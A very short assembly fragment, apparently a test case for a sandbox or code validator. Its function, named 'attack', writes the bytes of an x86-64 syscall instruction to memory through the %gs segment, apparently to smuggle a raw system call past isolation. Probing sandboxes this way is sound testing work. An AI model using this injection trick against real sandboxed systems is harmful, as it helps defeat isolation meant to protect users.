function attack
    mov $0x12000,%eax
    movw $0x050f,%gs:(%eax)
    ret
